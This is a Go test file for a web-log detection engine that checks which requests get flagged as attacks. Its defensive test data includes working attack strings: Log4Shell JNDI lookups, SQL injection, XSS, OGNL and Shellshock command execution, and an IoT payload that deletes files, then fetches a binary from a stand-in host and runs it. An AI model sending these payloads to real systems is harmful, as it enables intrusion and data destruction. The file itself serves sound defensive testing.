package detect

import (
	"fmt"
	"math/rand/v2"
	"net/netip"
	"net/url"
	"os"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/logsift/logsift/internal/evidence"
	"github.com/logsift/logsift/internal/record"
)

var t0 = time.Date(2026, 3, 1, 12, 0, 0, 0, time.UTC)

// req builds a record the way a parser would: target is the raw request
// target ("/p%41th?q=1"), decoded once into Path and Query.
type req struct {
	ip     string
	at     time.Duration // after t0
	method string
	target string
	status int
	bytes  int64
	ua     string
	ref    string
	bad    bool // malformed request line; target is the raw line
}

func (q req) record(line int64) *record.Record {
	r := &record.Record{
		Line:    line,
		Time:    t0.Add(q.at),
		Client:  netip.MustParseAddr(q.ip),
		Method:  q.method,
		Status:  q.status,
		Bytes:   q.bytes,
		UA:      q.ua,
		Referer: q.ref,
	}
	if r.Method == "" && !q.bad {
		r.Method = "GET"
	}
	if r.Status == 0 {
		r.Status = 200
	}
	if q.bad {
		r.Malformed = true
		r.Path = q.target
		return r
	}
	p, rq, _ := strings.Cut(q.target, "?")
	r.RawPath, r.RawQuery = p, rq
	if d, err := url.PathUnescape(p); err == nil {
		r.Path = d
	} else {
		r.Path = p
	}
	if d, err := url.QueryUnescape(rq); err == nil {
		r.Query = d
	} else {
		r.Query = rq
	}
	return r
}

func run(t testing.TB, cfg Config, reqs []req) evidence.Chunk {
	t.Helper()
	e, err := NewEngine(cfg)
	if err != nil {
		t.Fatal(err)
	}
	for i, q := range reqs {
		e.Observe(q.record(int64(i + 1)))
	}
	return e.Result(0)
}

func find(c evidence.Chunk, actor string) (a *evidence.Actor, suspicious bool) {
	for i := range c.Suspicious {
		if c.Suspicious[i].Actor == actor {
			return &c.Suspicious[i], true
		}
	}
	for i := range c.Weak {
		if c.Weak[i].Actor == actor {
			return &c.Weak[i], false
		}
	}
	return nil, false
}

func hitFor(a *evidence.Actor, cat evidence.Category) *evidence.Hit {
	if a == nil {
		return nil
	}
	for i := range a.Hits {
		if a.Hits[i].Category == cat {
			return &a.Hits[i]
		}
	}
	return nil
}

func weakFor(a *evidence.Actor, cat evidence.Category) *evidence.Hit {
	if a == nil {
		return nil
	}
	for i := range a.Weak {
		if a.Weak[i].Category == cat {
			return &a.Weak[i]
		}
	}
	return nil
}

const (
	browser   = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36"
	googlebot = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
	attacker  = "203.0.113.9"
)

// each builds one request per target from the attacker, a second apart.
func each(status int, ua string, targets ...string) []req {
	var out []req
	for i, tg := range targets {
		out = append(out, req{ip: attacker, at: time.Duration(i) * time.Second, target: tg, status: status, ua: ua})
	}
	return out
}

func seq(n int, format string, status int, step time.Duration) []req {
	var out []req
	for i := range n {
		out = append(out, req{ip: attacker, at: time.Duration(i) * step, target: fmt.Sprintf(format, i), status: status, ua: browser})
	}
	return out
}

// outcome of a case: "hit" (suspicious with the category), "weak" (only a
// below-threshold match of the category), "none" (no match of the category).
// ruleCase is one table-driven rule test: the requests of attacker, the
// category to look at, and whether it must be a hit, a weak hit or nothing.
type ruleCase struct {
	name string
	reqs []req
	cat  evidence.Category
	want string
	sev  evidence.Severity // checked when want == "hit" and sev != 0
	why  string            // substring of the reason, when set
}

func TestRules(t *testing.T) {
	runRuleCases(t, []ruleCase{
		// sensitive files
		{"sensitive two files", each(404, "curl/8", "/.env", "/.git/HEAD"), evidence.SensitiveFiles, "hit", evidence.Medium, "2 distinct sensitive files"},
		{"sensitive one file is weak", each(404, "curl/8", "/.env"), evidence.SensitiveFiles, "weak", 0, ""},
		{"sensitive leak fires on one", []req{{ip: attacker, target: "/.env", status: 200, bytes: 532}}, evidence.SensitiveFiles, "hit", evidence.High, "possible leak"},
		// One size for two files is not the site's usual page unless the
		// site's pages have it (TestCatchAllPage): without pages, two leaks.
		{"two leaks of one size", []req{
			{ip: attacker, target: "/.env", status: 200, bytes: 1234},
			{ip: attacker, at: time.Second, target: "/.git/config", status: 200, bytes: 1234},
		}, evidence.SensitiveFiles, "hit", evidence.High, "possible leak"},
		{"sensitive encoded", each(404, "", "/%2Eenv", "/%252Egit/config"), evidence.SensitiveFiles, "hit", 0, ""},
		{"sensitive uppercase", each(404, "", "/.ENV", "/BACKUP.SQL"), evidence.SensitiveFiles, "hit", 0, ""},
		{"sensitive suffixes", each(404, "", "/db/dump.sql.gz", "/wp-config.php.bak", "/.aws/credentials"), evidence.SensitiveFiles, "hit", 0, ""},
		{"github folder is not .git", each(404, "", "/.github/workflows/ci.yml", "/.github/readme"), evidence.SensitiveFiles, "none", 0, ""},
		{"googlebot asking for .env is still reported", from(googlebotIP, each(404, googlebot, "/.env", "/.git/config")), evidence.SensitiveFiles, "hit", 0, "claims to be googlebot"},

		// WordPress
		{"wordpress scan", each(404, browser, "/wp-login.php", "/xmlrpc.php", "/wp-admin/", "/wp-includes/wlwmanifest.xml"), evidence.WordPressScan, "hit", evidence.Medium, "threshold 2"},
		{"wordpress two probes", each(404, "", "/wp-login.php", "/xmlrpc.php"), evidence.WordPressScan, "hit", evidence.Medium, "threshold 2"},
		{"wordpress plugin readmes", each(404, browser, "/wp-content/plugins/a/readme.txt", "/wp-content/plugins/b/README.md", "/wp-content/plugins/c/x.php"), evidence.WordPressScan, "hit", 0, ""},
		{"wordpress one probe is weak", each(404, "", "/wp-login.php"), evidence.WordPressScan, "weak", 0, ""},
		{"wordpress site's own traffic", each(200, browser, "/wp-login.php", "/wp-admin/", "/wp-admin/edit.php", "/wp-includes/js/x.php"), evidence.WordPressScan, "none", 0, ""},
		{"wordpress missing theme assets", each(404, browser, "/wp-content/themes/a/style.css", "/wp-content/themes/a/app.js", "/wp-content/themes/a/logo.png", "/wp-includes/js/jquery.js"), evidence.WordPressScan, "none", 0, ""},
		{"wordpress crawler following links", from(googlebotIP, each(404, googlebot, "/wp-login.php", "/xmlrpc.php", "/wp-admin/", "/wp-signup.php")), evidence.WordPressScan, "none", 0, ""},
		{"a fake googlebot probing wordpress", each(404, googlebot, "/wp-login.php", "/xmlrpc.php", "/wp-admin/", "/wp-signup.php"), evidence.WordPressScan, "hit", 0, ""},

		// admin and technology probing
		{"phpmyadmin fires on one", each(404, "", "/phpMyAdmin/index.php"), evidence.AdminProbing, "hit", 0, "specific product"},
		{"generic admin once is weak", each(404, "", "/admin"), evidence.AdminProbing, "weak", 0, ""},
		{"own admin panel", each(200, browser, "/admin", "/admin/users", "/admin/settings"), evidence.AdminProbing, "none", 0, ""},
		{"actuator", each(404, "", "/actuator/env"), evidence.AdminProbing, "hit", 0, ""},
		{"cgi-bin", each(404, "curl/7.68.0", "/cgi-bin/videoconfiguration.cgi"), evidence.TechProbing, "hit", evidence.Low, ""},
		{"crx", each(403, "curl/7.68.0", "/crx/packmgr/service.jsp"), evidence.TechProbing, "hit", 0, ""},
		{"random 404 is not tech", each(404, "curl/7.68.0", "/some/random/path"), evidence.TechProbing, "none", 0, ""},
		{"blog post about jenkins", each(404, browser, "/blog/jenkins-pipelines"), evidence.TechProbing, "none", 0, ""},
		{"failing php pages need 5", each(404, "", "/a.php", "/b.php", "/c.php", "/d.jsp", "/e.aspx"), evidence.TechProbing, "hit", 0, "threshold 5"},
		{"failing php pages below 5", each(404, "", "/a.php", "/b.php"), evidence.TechProbing, "weak", 0, ""},

		// path traversal
		{"traversal passwd", each(404, "", "/../../etc/passwd"), evidence.PathTraversal, "hit", evidence.High, ""},
		{"traversal encoded slash", each(404, "", "/%2fetc%2fpasswd"), evidence.PathTraversal, "hit", 0, ""},
		{"traversal double encoded", each(404, "", "/%252E%252E%252Ffoo1"), evidence.PathTraversal, "hit", 0, "encoded"},
		{"traversal %%32%65", each(404, "", "/%%32%65%%32%65/"), evidence.PathTraversal, "hit", 0, ""},
		{"traversal win.ini backslash", each(404, "", "/c:\\windows\\win.ini"), evidence.PathTraversal, "hit", 0, ""},
		{"traversal in query", []req{{ip: attacker, target: "/download?file=..%2F..%2F..%2Fetc%2Fpasswd", status: 200, bytes: 2100}}, evidence.PathTraversal, "hit", evidence.Critical, "2xx"},
		{"single ../ in query is weak", each(200, "", "/view?next=../home"), evidence.PathTraversal, "weak", 0, ""},
		{"plain paths are not traversal", each(200, browser, "/docs/etc/guide", "/a/b/c.html"), evidence.PathTraversal, "none", 0, ""},

		// SQL injection
		{"union select", each(404, "", "/foo?a=%20union%20all%20select%20"), evidence.SQLInjection, "hit", evidence.High, "union"},
		{"union comment obfuscated", each(200, "", "/item?id=1/**/UNION/**/SELECT/**/1,2"), evidence.SQLInjection, "hit", 0, ""},
		{"tautology", each(200, "", "/login?user=admin'%20or%20'1'='1"), evidence.SQLInjection, "hit", 0, ""},
		{"information_schema", each(404, "", "/foo?a=information_schema.tables"), evidence.SQLInjection, "hit", 0, ""},
		{"two weak sql markers", each(404, "", "/foo?a=char%2865%29", "/foo?b=md5%28x%29"), evidence.SQLInjection, "hit", 0, "weak markers"},
		{"one weak sql marker", each(200, browser, "/search?q=upper(case)"), evidence.SQLInjection, "weak", 0, ""},
		{"search text with select and from", each(200, browser, "/search?q=how+to+select+rows+from+a+table", "/search?q=rock+'n'+roll+and+jazz"), evidence.SQLInjection, "none", 0, ""},
		{"union in plain words", each(200, browser, "/news/european-union-summit"), evidence.SQLInjection, "none", 0, ""},

		// XSS
		{"script tag", each(200, "", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E"), evidence.XSS, "hit", evidence.High, ""},
		{"double encoded onerror", each(200, "", "/p?x=%2522%253E%253Cimg%2520src%253Dx%2520onerror%253Dalert(1)%253E"), evidence.XSS, "hit", 0, ""},
		{"event handler parameter", each(200, browser, "/maps?onload=initMap&key=x", "/api.js?onerror=report"), evidence.XSS, "none", 0, ""},
		{"javascript:void links from naive crawlers", each(404, "crawler/1", "/page/javascript:void(0)", "/about/javascript:void(0);"), evidence.XSS, "none", 0, ""},
		{"javascript url twice", each(200, "", "/r?u=javascript:x()", "/r?u=JavaScript:y()"), evidence.XSS, "hit", 0, ""},
		{"javascript word", each(200, browser, "/search?q=javascript+tutorial"), evidence.XSS, "none", 0, ""},

		// Log4Shell
		{"jndi in UA", each(404, "${jndi:ldap://${java:version}.domain/a}", "/.awscfg"), evidence.Log4Shell, "hit", evidence.Critical, ""},
		{"jndi lower obfuscation", each(404, "", "/?x=${${lower:j}ndi:${lower:l}dap://x.example/a}"), evidence.Log4Shell, "hit", 0, ""},
		{"jndi ::- obfuscation encoded", each(404, "", "/?x=%24%7B%24%7B%3A%3A-j%7D%24%7B%3A%3A-n%7D%24%7B%3A%3A-d%7D%24%7B%3A%3A-i%7D%3A%24%7B%3A%3A-r%7D%24%7B%3A%3A-m%7Di%3A//x/a%7D"), evidence.Log4Shell, "hit", 0, ""},
		{"jndi env obfuscation in referer", []req{{ip: attacker, target: "/", ref: "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//x/a}"}}, evidence.Log4Shell, "hit", 0, ""},
		{"template braces are not jndi", each(200, browser, "/p?tpl=${name}&x=${a:b}"), evidence.Log4Shell, "none", 0, ""},

		// other CVE probes
		{"ognl", each(404, "", "/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29.getInputStream%28%29%2C%22utf-8%22%29%29%7D/"), evidence.CVEProbe, "hit", evidence.High, ""},
		{"cacti", each(404, "", "/remote_agent.php?action=polldata&host_id=1&local_data_ids[]=3&poller_id=;ping%20%24%28whoami%29.test.com"), evidence.CVEProbe, "hit", 0, ""},
		{"shellshock UA", each(200, "() { :; }; /bin/bash -c 'id'", "/cgi-bin/status"), evidence.CVEProbe, "hit", 0, ""},
		{"thinkphp", each(404, "", "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=x"), evidence.CVEProbe, "hit", 0, ""},
		{"iot shell", each(404, "Hello, world", "/shell?cd+/tmp;rm+-rf+*;wget+a.example/jaws;sh+/tmp/jaws"), evidence.CommandInjection, "hit", 0, ""},
		{"spring4shell", each(400, "", "/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x"), evidence.CVEProbe, "hit", 0, ""},
		{"phpunit", each(404, "", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"), evidence.CVEProbe, "hit", 0, ""},
		{"rfi", each(404, "", "/start.php?lang=http://cirt.net/rfiinc.txt?"), evidence.RFI, "hit", 0, ""},
		{"shell injection after a metacharacter", each(200, "", "/ping?host=127.0.0.1%3Bcat%20/etc/issue"), evidence.CommandInjection, "hit", 0, "shell command"},
		{"command substitution", each(200, "", "/api?x=%24(id)"), evidence.CommandInjection, "hit", 0, ""},
		{"searching for shell commands", each(200, browser, "/search?q=rm+-rf+explained", "/search?q=curl+examples", "/search?q=cats+%26+dogs"), evidence.CommandInjection, "weak", 0, ""},
		{"ordinary parameters", each(200, browser, "/index.php?cmd=login", "/blog/think/apple-review", "/shop;jsessionid=ab12?id=3", "/a?x=1&&y=2"), evidence.CommandInjection, "none", 0, ""},
		{"redirect url is not rfi", each(200, browser, "/login?next=https://example.com/account", "/out?url=http://example.org/page.html"), evidence.RFI, "none", 0, ""},

		// webshells
		{"webshell", each(404, "", "/shell.php"), evidence.Webshell, "hit", evidence.High, ""},
		{"webshell answered", []req{{ip: attacker, target: "/wp-content/uploads/2024/01/x.php", status: 200, bytes: 90}}, evidence.Webshell, "hit", evidence.Critical, "backdoor"},
		{"uploaded image", each(200, browser, "/wp-content/uploads/2024/01/photo.jpg"), evidence.Webshell, "none", 0, ""},

		// scanner user agents
		{"nikto", each(200, "Mozilla/5.00 (Nikto/2.1.5) (Evasions:None) (Test:Port Check)", "/"), evidence.ScannerUA, "hit", evidence.Medium, "nikto"},
		{"sqlmap", each(200, "sqlmap/1.7.2#stable (https://sqlmap.org)", "/"), evidence.ScannerUA, "hit", 0, ""},
		{"locale in a user agent is not a command", each(200, "Opera/9.80 (MTK; Opera Mini/2.1199/34.1244; U; id) Presto/2.8.119 Version/11.10", "/", "/about"), evidence.CommandInjection, "none", 0, ""},
		{"python-requests alone is not an attack", each(200, "python-requests/2.31.0", "/", "/about"), evidence.ScannerUA, "none", 0, ""},

		// http probing bursts
		{"probing burst", seq(12, "/dir%d/index.php", 404, time.Second), evidence.HTTPProbing, "hit", evidence.Medium, "threshold 10"},
		{"slow failures are not a burst", seq(12, "/dir%d/page", 404, 10*time.Minute), evidence.HTTPProbing, "none", 0, ""},
		{"static 404s are not probing", seq(30, "/img/%d.png", 404, time.Second), evidence.HTTPProbing, "none", 0, ""},
		{"api 404s are not probing", seq(30, "/api/items/%d", 404, time.Second), evidence.HTTPProbing, "none", 0, ""},
		{"a user's typos", each(404, browser, "/abuot", "/contcat", "/blgo/post"), evidence.HTTPProbing, "none", 0, ""},
		{"crawler 404s are not probing", func() []req {
			r := from(bingbotIP, seq(20, "/old/page-%d", 404, time.Second))
			for i := range r {
				r[i].ua = "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)"
			}
			return r
		}(), evidence.HTTPProbing, "none", 0, ""},

		// aggressive crawling
		{"crawl", seq(150, "/page/%d", 200, 300*time.Millisecond), evidence.AggressiveCrawl, "hit", evidence.Low, "threshold 60"},
		{"browser assets are not crawling", seq(300, "/static/%d.js", 200, 100*time.Millisecond), evidence.AggressiveCrawl, "none", 0, ""},
		{"steady reader", seq(150, "/page/%d", 200, 20*time.Second), evidence.AggressiveCrawl, "none", 0, ""},
		{"single-page app API calls are not crawling", seq(200, "/api/items/%d", 200, 100*time.Millisecond), evidence.AggressiveCrawl, "none", 0, ""},
		{"crawl just under the threshold", seq(59, "/page/%d", 200, 900*time.Millisecond), evidence.AggressiveCrawl, "none", 0, ""},

		// brute force
		{"wp-login brute force", func() []req {
			var r []req
			for i := range 12 {
				r = append(r, req{ip: attacker, at: time.Duration(i) * 5 * time.Second, method: "POST", target: "/wp-login.php", status: 200, ua: browser})
			}
			return r
		}(), evidence.BruteForce, "hit", evidence.High, "threshold 10"},
		{"basic auth 401s on login", seq(11, "/login?try=%d", 401, time.Second), evidence.BruteForce, "hit", 0, ""},
		{"expired token on an API is not brute force", seq(30, "/api/data?n=%d", 401, 10*time.Second), evidence.BruteForce, "none", 0, ""},
		{"a few failed logins are weak", seq(4, "/login?try=%d", 401, time.Second), evidence.BruteForce, "weak", 0, ""},

		// bad requests
		{"binary request line", []req{{ip: attacker, bad: true, target: "\x16\x03\x01\x00\xa5\x01", status: 400}}, evidence.BadRequest, "hit", evidence.Low, "binary"},
		{"connect", []req{{ip: attacker, method: "CONNECT", target: "example.org:443", status: 405}}, evidence.BadRequest, "hit", 0, "CONNECT"},
		{"proxy attempt", []req{{ip: attacker, target: "http://www.example.org/", status: 404}}, evidence.BadRequest, "hit", 0, "proxy"},
		{"one empty request line", []req{{ip: attacker, bad: true, target: "-", status: 408}}, evidence.BadRequest, "none", 0, ""},
		{"empty request lines", []req{{ip: attacker, bad: true, target: "-", status: 408}, {ip: attacker, bad: true, target: "", status: 400}, {ip: attacker, bad: true, target: "-", status: 408}}, evidence.BadRequest, "hit", 0, ""},
	})
}

func runRuleCases(t *testing.T, tests []ruleCase) {
	t.Helper()
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			c := run(t, Config{}, tt.reqs)
			a, _ := find(c, tt.reqs[0].ip)
			h, w := hitFor(a, tt.cat), weakFor(a, tt.cat)
			got := "none"
			switch {
			case h != nil:
				got = "hit"
			case w != nil:
				got = "weak"
			}
			if got != tt.want {
				t.Fatalf("%s: got %s, want %s; actor %+v", tt.cat, got, tt.want, a)
			}
			if h == nil {
				return
			}
			if tt.sev != 0 && h.Severity != tt.sev {
				t.Errorf("severity %v, want %v (reason %q)", h.Severity, tt.sev, h.Reason)
			}
			if tt.why != "" && !strings.Contains(h.Reason, tt.why) {
				t.Errorf("reason %q does not contain %q", h.Reason, tt.why)
			}
			if len(h.Samples) == 0 && tt.cat != evidence.AggressiveCrawl {
				t.Errorf("hit has no samples")
			}
			for _, s := range h.Samples {
				if s.Line < 1 || s.Line > int64(len(tt.reqs)) {
					t.Errorf("sample line %d out of range", s.Line)
				}
			}
		})
	}
}

// Records may arrive in any time order: a burst shuffled among slow
// requests is still a burst, and first/last seen are the extremes.
func TestOutOfOrder(t *testing.T) {
	reqs := seq(12, "/probe%d.php", 404, time.Second)
	for i := range 40 {
		reqs = append(reqs, req{ip: attacker, at: time.Duration(i) * time.Hour, target: "/", status: 200, ua: browser})
	}
	rng := rand.New(rand.NewPCG(1, 2))
	rng.Shuffle(len(reqs), func(i, j int) { reqs[i], reqs[j] = reqs[j], reqs[i] })
	c := run(t, Config{}, reqs)
	a, sus := find(c, attacker)
	if !sus || hitFor(a, evidence.HTTPProbing) == nil {
		t.Fatalf("shuffled burst not found: %+v", a)
	}
	if !a.FirstSeen.Equal(t0) || !a.LastSeen.Equal(t0.Add(39*time.Hour)) {
		t.Errorf("first/last = %v/%v", a.FirstSeen, a.LastSeen)
	}
	if a.Requests != int64(len(reqs)) {
		t.Errorf("requests = %d, want %d", a.Requests, len(reqs))
	}
}

// A single-page app answers unknown paths with its index.html: a 200 the
// size of the site's usual page is not a leak; a 200 of another size is.
func TestCatchAllPage(t *testing.T) {
	var reqs []req
	for i := range 40 {
		reqs = append(reqs, req{ip: fmt.Sprintf("10.9.0.%d", i+1), target: fmt.Sprintf("/page/%d", i), status: 200, bytes: 1500 + int64(i%7), ua: browser})
	}
	spa := append(slices.Clone(reqs),
		req{ip: attacker, target: "/.env", status: 200, bytes: 1503},
		req{ip: attacker, target: "/download?f=../../../etc/passwd", status: 200, bytes: 1499},
		req{ip: "192.0.2.77", target: "/.env", status: 200, bytes: 312})
	c := run(t, Config{}, spa)
	a, _ := find(c, attacker)
	if h := hitFor(a, evidence.SensitiveFiles); h != nil {
		t.Errorf("catch-all answer reported as a leak: %s", h.Reason)
	}
	if h := hitFor(a, evidence.PathTraversal); h == nil || h.Severity != evidence.High || !strings.Contains(h.Reason, "catch-all") {
		t.Errorf("traversal answered by the catch-all page: %+v", h)
	}
	b, _ := find(c, "192.0.2.77")
	if h := hitFor(b, evidence.SensitiveFiles); h == nil || h.Severity != evidence.High || !strings.Contains(h.Reason, "possible leak") {
		t.Errorf("real leak not reported: %+v", b)
	}
	// WordPress probes a catch-all page answers 200 are probes all the same;
	// a WordPress site's own login page of another size is not.
	wp := slices.Clone(reqs)
	for i, p := range []string{"/wp-login.php", "/xmlrpc.php", "/wp-admin/", "/wp-includes/wlwmanifest.xml"} {
		wp = append(wp, req{ip: attacker, at: time.Duration(i) * time.Second, target: p, status: 200, bytes: 1502})
		wp = append(wp, req{ip: "192.0.2.78", at: time.Duration(i) * time.Second, target: p, status: 200, bytes: 4800 + int64(i)*900})
	}
	c = run(t, Config{}, wp)
	a, _ = find(c, attacker)
	if h := hitFor(a, evidence.WordPressScan); h == nil || !strings.Contains(h.Reason, "catch-all") {
		t.Errorf("WordPress scan answered by a catch-all page not reported: %+v", a)
	}
	if b, _ := find(c, "192.0.2.78"); b != nil {
		t.Errorf("WordPress user reported: %+v", b)
	}

	// a huge size must not make the check slow
	huge := append(slices.Clone(reqs), req{ip: attacker, target: "/.env", status: 200, bytes: 1 << 50})
	run(t, Config{}, huge)
}

func TestAbsurdTimes(t *testing.T) {
	e, _ := NewEngine(Config{})
	for i, tm := range []time.Time{{}, time.Date(9999, 1, 1, 0, 0, 0, 0, time.UTC), t0} {
		for j := range 12 {
			e.Observe(&record.Record{Line: int64(i*12 + j), Time: tm, Client: netip.MustParseAddr(attacker),
				Method: "GET", Path: fmt.Sprintf("/p%d.php", j), Status: 404})
		}
	}
	a, sus := find(e.Result(0), attacker)
	if !sus || hitFor(a, evidence.HTTPProbing) == nil || a.FirstSeen.Year() != 1970 {
		t.Fatalf("absurd times: %+v", a)
	}
}

func TestAllowlists(t *testing.T) {
	cfg := Config{Allow: Allowlist{CIDRs: []string{"203.0.113.0/24"}, Paths: []string{"/healthz"}}}
	reqs := each(404, "", "/.env", "/.git/config", "/shell.php")
	reqs = append(reqs, seq(20, "/healthz/%d", 404, time.Second)...)
	for i := range reqs[3:] {
		reqs[3+i].ip = "198.51.100.7"
	}
	c := run(t, cfg, reqs)
	if a, _ := find(c, attacker); a != nil {
		t.Errorf("allowlisted CIDR reported: %+v", a)
	}
	if a, _ := find(c, "198.51.100.7"); a != nil && hitFor(a, evidence.HTTPProbing) != nil {
		t.Errorf("allowlisted path counted toward probing: %+v", a)
	}
	if c.Allowlisted != int64(len(reqs)) {
		t.Errorf("allowlisted = %d, want %d", c.Allowlisted, len(reqs))
	}
	if c.Actors != 1 || c.Requests != int64(len(reqs)) {
		t.Errorf("actors=%d requests=%d", c.Actors, c.Requests)
	}
}

func TestAllowIPv6Host(t *testing.T) {
	reqs := []req{
		{ip: "2001:db8:1::1", target: "/.env", status: 404},
		{ip: "2001:db8:1::1", target: "/.git/config", status: 404},
		{ip: "2001:db8:1::2", target: "/.env", status: 404},
		{ip: "2001:db8:1::2", target: "/.git/config", status: 404},
	}
	c := run(t, Config{Allow: Allowlist{CIDRs: []string{"2001:db8:1::1"}}}, reqs)
	a, sus := find(c, "2001:db8:1::/64")
	if !sus || a.Requests != 2 || c.Allowlisted != 2 {
		t.Fatalf("allowlisting one IPv6 host: %+v, allowlisted %d", a, c.Allowlisted)
	}
}

func TestIPv6Actor(t *testing.T) {
	reqs := []req{
		{ip: "2001:db8:85a3::8a2e:370:7334", target: "/.env", status: 404},
		{ip: "2001:db8:85a3::1", target: "/.git/config", status: 404},
	}
	c := run(t, Config{}, reqs)
	a, sus := find(c, "2001:db8:85a3::/64")
	if !sus || a.Requests != 2 {
		t.Fatalf("IPv6 /64 not grouped: %+v", c.Suspicious)
	}
}

func TestRankingAndEvidence(t *testing.T) {
	var reqs []req
	// a noisy low actor and a high one
	for i := range 200 {
		reqs = append(reqs, req{ip: "198.51.100.1", at: time.Duration(i) * 200 * time.Millisecond, target: fmt.Sprintf("/p/%d", i), ua: "crawler/1"})
	}
	reqs = append(reqs, req{ip: attacker, target: "/?x=${jndi:ldap://x/a}", status: 404, ua: "x"})
	// noise first cannot push the evidence out: 50 benign requests, then the payload
	for i := range 50 {
		reqs = append(reqs, req{ip: "198.51.100.2", at: time.Duration(i) * time.Minute, target: "/a", ua: browser})
	}
	reqs = append(reqs, req{ip: "198.51.100.2", at: time.Hour, target: "/shell.php", status: 404, ua: browser})
	c := run(t, Config{}, reqs)
	if len(c.Suspicious) != 3 {
		t.Fatalf("suspicious = %d, want 3", len(c.Suspicious))
	}
	if c.Suspicious[0].Actor != attacker || c.Suspicious[0].Severity != evidence.Critical {
		t.Errorf("worst first: got %s (%v)", c.Suspicious[0].Actor, c.Suspicious[0].Severity)
	}
	for i := 1; i < len(c.Suspicious); i++ {
		if c.Suspicious[i].Score > c.Suspicious[i-1].Score {
			t.Errorf("not sorted by score")
		}
	}
	a, _ := find(c, "198.51.100.2")
	h := hitFor(a, evidence.Webshell)
	if h == nil || len(h.Samples) != 1 || h.Samples[0].Target != "/shell.php" || h.Samples[0].Line != int64(len(reqs)) {
		t.Fatalf("webshell evidence: %+v", h)
	}
	if a.Statuses["200"] != 50 || a.Statuses["404"] != 1 || a.DistinctPaths != 2 {
		t.Errorf("statuses %v distinct %d", a.Statuses, a.DistinctPaths)
	}
	for _, s := range c.Suspicious {
		if len(s.Categories) == 0 || s.Score <= 0 {
			t.Errorf("%s: categories %v score %v", s.Actor, s.Categories, s.Score)
		}
	}
}

// Samples and top values are copies: the reader may reuse its buffers.
func TestDoesNotRetainRecord(t *testing.T) {
	e, _ := NewEngine(Config{})
	buf := []byte("/shell.php")
	ua := []byte("Nikto")
	r := &record.Record{Line: 1, Time: t0, Client: netip.MustParseAddr(attacker), Method: "GET", Status: 404}
	r.Path = string(buf) // a real reader may alias; we overwrite below
	r.UA = string(ua)
	e.Observe(r)
	r.Path, r.UA, r.Method = "/overwritten", "other", "PUT"
	c := e.Result(0)
	a, _ := find(c, attacker)
	h := hitFor(a, evidence.Webshell)
	if h == nil || h.Samples[0].Target != "/shell.php" || h.Samples[0].UA != "Nikto" || h.Samples[0].Method != "GET" {
		t.Fatalf("sample changed with the record: %+v", h)
	}
}

func TestLongHostileFields(t *testing.T) {
	long := strings.Repeat("%25", 20000) + "${jndi:" + strings.Repeat("A", 50000)
	reqs := []req{{ip: attacker, target: "/x?" + long, ua: strings.Repeat("\xff<script>", 5000), status: 404}}
	c := run(t, Config{}, reqs)
	a, _ := find(c, attacker)
	if a == nil {
		t.Fatal("hostile request not reported")
	}
	for _, h := range a.Hits {
		for _, s := range h.Samples {
			if len(s.Target) > maxTarget || len(s.UA) > maxUA {
				t.Errorf("sample not truncated: %d/%d bytes", len(s.Target), len(s.UA))
			}
		}
	}
}

func TestNormalize(t *testing.T) {
	tests := []struct{ in, want string }{
		{"/a/b", "/a/b"},
		{"/A%2fB", "/a/b"},
		{"/%252E%252E%252F", "/../"},
		{"/%%32%65%%32%65/", "/../"},
		{"/a\\b", "/a/b"},
		{"/%zz%4", "/%zz%4"},
		{"/%25252e", "/."},
		{"/%2525252e", "/%2e"}, // three rounds only
	}
	for _, tt := range tests {
		b, s, rounds := normalize(nil, tt.in, false)
		if rounds >= 0 {
			s = string(b)
		}
		if s != tt.want {
			t.Errorf("normalize(%q) = %q, want %q", tt.in, s, tt.want)
		}
	}
	if b, _, _ := normalize(nil, "a+b", true); string(b) != "a b" {
		t.Errorf("plus in query: %q", b)
	}
}

func TestMatcher(t *testing.T) {
	m := newMatcher([]string{"he", "she", "his", "hers"})
	got := m.scan("ushers", nil)
	var ids []int32
	for _, x := range got {
		ids = append(ids, x.id)
	}
	slices.Sort(ids)
	if !slices.Equal(ids, []int32{0, 1, 3}) {
		t.Errorf("matches %v", got)
	}
}

func TestLoadConfig(t *testing.T) {
	dir := t.TempDir()
	write := func(s string) string {
		p := filepath.Join(dir, fmt.Sprint(len(s))+".json")
		if err := os.WriteFile(p, []byte(s), 0o600); err != nil {
			t.Fatal(err)
		}
		return p
	}
	c, err := LoadConfig(write(`{"allow":{"cidrs":["10.0.0.0/8"],"user_agents":["MyMonitor"]},"probing_window":"30s","wordpress_paths":5}`))
	if err != nil {
		t.Fatal(err)
	}
	if c.WordPressPaths != 5 || time.Duration(c.ProbingWindow) != 30*time.Second || c.SensitiveFiles != 2 {
		t.Errorf("merged config: %+v", c)
	}
	if !slices.Contains(c.Allow.UserAgents, "MyMonitor") || !slices.Contains(c.Allow.UserAgents, "googlebot") {
		t.Errorf("user agents not merged: %v", c.Allow.UserAgents)
	}
	for _, bad := range []string{`{"nope":1}`, `{"probing_window":"fast"}`, `{"allow":{"cidrs":["10.0.0.300"]}}`, `{`} {
		if _, err := LoadConfig(write(bad)); err == nil {
			t.Errorf("LoadConfig(%s) succeeded", bad)
		}
	}
	if _, err := LoadConfig(filepath.Join(dir, "missing.json")); err == nil {
		t.Error("missing file accepted")
	}
}

func TestParseAllowCIDRs(t *testing.T) {
	got, err := ParseAllowCIDRs(" 1.2.3.4, 10.0.0.0/8 2001:db8::/32,,::ffff:5.6.7.8")
	if err != nil {
		t.Fatal(err)
	}
	want := []string{"1.2.3.4/32", "10.0.0.0/8", "2001:db8::/32", "5.6.7.8/32"}
	if !slices.Equal(got, want) {
		t.Errorf("got %v, want %v", got, want)
	}
	if _, err := ParseAllowCIDRs("1.2.3"); err == nil {
		t.Error("bad address accepted")
	}
	if got, err := ParseAllowCIDRs(""); err != nil || len(got) != 0 {
		t.Errorf("empty: %v %v", got, err)
	}
